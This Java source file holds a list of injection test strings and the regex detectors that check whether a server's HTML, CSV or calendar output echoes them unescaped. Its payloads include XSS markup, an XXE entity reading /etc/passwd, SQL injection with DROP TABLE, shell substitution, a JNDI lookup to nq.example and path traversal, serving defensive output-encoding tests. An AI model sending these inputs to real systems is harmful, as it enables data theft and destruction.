package org.parley.node;

import java.util.List;
import java.util.Optional;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/// Texts that break what is careless with them, and how it shows in an answer that one was.
final class NaughtyTexts {

  /// What gives each of them away where it is not harmless.
  private static final String MARK = "nq";

  static final List<String> ALL =
      List.of(
          // Parts of a page, in a text, in an attribute, in a comment, in a script.
          "=nq\"'><script>nq(1)</script>${7*7}",
          "\"><img src=nq onerror=nq(1)><svg/onload=nq(1)><iframe src=nq>",
          "' onmouseover=nq(1) x='",
          "]]>--></title></textarea></script><script>nq(2)</script>&nq;",
          "javascript:nq(1)//https://nq.example/",
          "<!DOCTYPE nq [<!ENTITY nq SYSTEM \"file:///etc/passwd\">]><nq>&nq;</nq>",
          // Formulas of a spreadsheet.
          "+nq(1)",
          "-nq+1|cmd",
          "@nq",
          "\t=nq(1)",
          // Lines of a header, a calendar, a card, a log, a plain text.
          "nq\r\nX-Nq: 1\r\nATTENDEE:nq\r\n\r\n<script>nq(3)</script>",
          "nq\nEND:VCALENDAR\nEND:VCARD\nTEL:nq\u2028nq\u2029nq\u0085nq",
          // Queries, commands, templates, look-ups, paths.
          "nq' OR '1'='1'; DROP TABLE account; --",
          "nq%' ESCAPE '_\\\\",
          "$(nq) `nq` ; nq | nq & nq",
          "{{nq*7}} ${jndi:ldap://nq.example/a} #{nq} @{nq} <%= nq %> %s %n %x {0} {",
          "../../../../../../nq/../etc/passwd",
          "..\\..\\nq CON nul .",
          // What YAML and JSON read as something else.
          "nq: [ {\"a\": 'b', *nq, &nq !!nq",
          "no",
          // Characters: none, turned round, without width, beyond the first plane, in piles.
          "nq\u0000nq\u0001\u007f\u001b[31mnq",
          "\u202enq\u2066\u200b\ufeff\u00ad\u061c",
          "\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67 n\u0337\u0321q\u0338\u0301 \ufdfa"
              + " \uffff",
          "\u0130\u0131\u017f\u1e9e\ufb01 nq",
          // Numbers and times that are none, or too large.
          "9223372036854775808",
          "-0",
          "1e400",
          "NaN",
          "\uff19\u0669\u096f",
          "2026-02-30T25:61",
          "+999999999-12-31T23:59:59Z",
          "00000000-0000-0000-0000-000000000000",
          " ",
          "nq" + "\u03a9<nq>".repeat(4000));

  private static final Pattern IN_A_PAGE =
      Pattern.compile(
          "<(script|img|svg|iframe|base|object)\\b[^>]*nq|<script>nq|=\"=nq\""
              + "|<\\w+(?:\\s+[\\w-]+(?:=\"[^\"]*\")?)*+\\s+on\\w+=nq"
              + "|(?:href|src|action)=\"\\s*javascript:|<nq>");

  private static final Pattern IN_A_TABLE = Pattern.compile("(?m)(^|[,;\t])\"?[=+@\t-]+nq");
  private static final Pattern IN_LINES =
      Pattern.compile("(?m)^(ATTENDEE:nq|TEL:nq|X-Nq:|END:VCALENDAR\\s+END:VCARD)");

  private NaughtyTexts() {}

  /// Where a text became a part of the answer that it should not be.
  static Optional<String> harm(String type, String body) {
    if (type.startsWith("text/html")) {
      return around(body, IN_A_PAGE.matcher(body));
    }
    if (type.startsWith("text/csv")) {
      return around(body, IN_A_TABLE.matcher(body));
    }
    boolean lines = type.startsWith("text/calendar") || type.startsWith("text/vcard");
    return lines ? around(body, IN_LINES.matcher(body)) : Optional.empty();
  }

  static boolean isHeader(String name) {
    return name.equalsIgnoreCase("x-" + MARK);
  }

  private static Optional<String> around(String body, Matcher found) {
    return found.find()
        ? Optional.of(
            body.substring(
                Math.max(0, found.start() - 160), Math.min(body.length(), found.end() + 160)))
        : Optional.empty();
  }
}
